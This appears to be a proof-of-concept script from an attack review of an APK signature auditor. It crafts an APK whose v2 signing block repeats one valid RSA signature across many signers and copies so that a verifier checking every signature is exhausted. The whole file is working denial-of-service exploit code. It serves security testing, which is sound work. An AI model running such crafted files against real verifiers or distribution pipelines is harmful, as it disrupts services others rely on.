#!/usr/bin/env python3
"""Issue-13 attack review: an APK whose v2 signers each repeat one valid RSA signature many times
(a denial of service on a verifier that checks every signature). Independent of sigaudit: Python
`struct`, `hashlib` and `cryptography` only (a throw-away key made here).

usage: attack13_dos_apk.py UNSIGNED.apk OUT.apk SIGNERS COPIES
"""
import datetime, hashlib, struct, sys
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.x509.oid import NameOID

src, out, signers, copies = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
MAGIC = b"APK Sig Block 42"
V2 = 0x7109871A


def lp(b): return struct.pack('<I', len(b)) + b
def seq(items): return lp(b''.join(lp(i) for i in items))
def u32(v): return struct.pack('<I', v)


def eocd_off(z):
    for i in range(len(z) - 22, -1, -1):
        if z[i:i + 4] == b'PK\x05\x06' and struct.unpack('<H', z[i + 20:i + 22])[0] == len(z) - i - 22:
            return i


z = open(src, 'rb').read()
e = eocd_off(z)
cd = struct.unpack('<I', z[e + 16:e + 20])[0]
pre, cdir, eo = z[:cd], z[cd:e], z[e:]
ds = []
for part in (pre, cdir, eo):
    for i in range(0, len(part), 1 << 20):
        c = part[i:i + (1 << 20)]
        ds.append(hashlib.sha256(b'\xa5' + u32(len(c)) + c).digest())
digest = hashlib.sha256(b'\x5a' + u32(len(ds)) + b''.join(ds)).digest()

key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attack13 dos")])
now = datetime.datetime.now(datetime.timezone.utc)
cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(1).not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=3650)).sign(key, hashes.SHA256()))
spki = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
sd = seq([u32(0x0103) + lp(digest)] * copies) + seq([cert.public_bytes(serialization.Encoding.DER)]) + seq([])
sig = key.sign(sd, padding.PKCS1v15(), hashes.SHA256())
signer = lp(sd) + seq([u32(0x0103) + lp(sig)] * copies) + lp(spki)
value = seq([signer] * signers)
body = struct.pack('<Q', len(value) + 4) + u32(V2) + value
size = len(body) + 8 + 16
block = struct.pack('<Q', size) + body + struct.pack('<Q', size) + MAGIC
eo = bytearray(eo)
eo[16:20] = u32(cd + len(block))
open(out, 'wb').write(pre + block + cdir + bytes(eo))
